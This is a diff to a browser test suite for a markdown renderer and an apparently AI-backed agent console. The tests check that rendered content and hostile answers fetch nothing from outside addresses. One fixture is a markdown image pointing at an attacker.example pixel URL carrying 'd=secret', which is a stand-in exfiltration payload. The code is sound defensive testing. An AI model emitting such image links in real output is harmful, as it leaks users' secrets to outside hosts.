@@ -1,5 +1,5 @@
 import type { Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
 import { createAgentServer } from '../../dev/agent/create-agent-server.ts';
 import { chromiumForFile } from '../support/chromium.ts';
 import { resetConfigJson, setConfigJson } from '../support/config-json.ts';
@@ -167,7 +167,18 @@ describe('the markdown renderer in Chromium', () => {
     expect(await page.locator('li').allTextContents()).toEqual(['☑ done', '☐ open']);
   });
 
-  it('never fetched anything from the addresses in the rendered content', () => {
+  it('never fetched anything from the addresses in the rendered content', async () => {
+    // The content of the tests above, rendered here again: whatever of it loads by itself would load now.
+    for (const content of [
+      LOADS_BY_ITSELF,
+      '[a](https://example.com/docs) [b](http://example.com/) [c](mailto:ops@example.com) [d](/debugger)',
+      '![the chart](https://attacker.example/pixel.png?d=secret)',
+    ]) {
+      await render(content);
+      await sanitize(content);
+    }
+    // Two frames rendered: the elements the content made are in the document, and any load they start has started.
+    await page.evaluate(() => new Promise<void>((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve()))));
     expect(harness.hits).toEqual(['GET /', 'GET /harness.js']);
   });
 });
@@ -176,7 +187,8 @@ describe('hostile answers in the console', () => {
   let page: Page;
   let pageRequests: string[];
 
-  beforeAll(async () => {
+  // Each test has a tab of its own, signed in as alice, its requests to the recorder and its CSP violations noted.
+  beforeEach(async () => {
     const context = await browser.newContext();
     await context.addInitScript(() => {
       const violations: string[] = [];
@@ -188,6 +200,7 @@ describe('hostile answers in the console', () => {
     await page.goto(`${stack.consoleUrl}/`);
     await signIn(page, stack.consoleUrl);
   });
+  afterEach(() => page.context().close());
 
   it('an answer with images, autoplaying audio, a video poster and backgrounds loads nothing; the image is a link', async () => {
     await send(page, `/hostile-media ${recorder.url}`);
